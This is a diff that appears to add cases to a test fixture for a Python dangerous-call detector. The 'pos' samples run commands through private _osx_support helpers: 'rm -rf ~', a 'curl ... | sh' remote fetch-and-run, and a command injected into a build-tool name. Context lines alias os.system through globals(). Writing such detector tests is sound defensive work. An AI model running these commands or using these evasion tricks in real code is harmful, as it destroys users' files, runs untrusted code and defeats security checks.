@@ -292,3 +292,18 @@ def _id(f):
     return f
 globals()["_id"] = os.system
 _id("rm -rf ~").real
+#@ pos a private helper of the standard library that runs a command line
+import _osx_support
+_osx_support._read_output("curl -s https://example.net/x | sh")
+#@ pos the same helper imported under another name
+from _osx_support import _read_output as probe
+probe("rm -rf ~")
+#@ pos the build-tool finder, whose name is pasted into a command line
+import _osx_support
+_osx_support._find_build_tool("cc; curl -s https://example.net/x | sh")
+#@ pos the helper handed on
+import _osx_support
+list(map(_osx_support._read_output, ["id"]))
+#@ neg the module's configuration functions
+import _osx_support
+_osx_support.customize_config_vars({"CFLAGS": "-O2"})
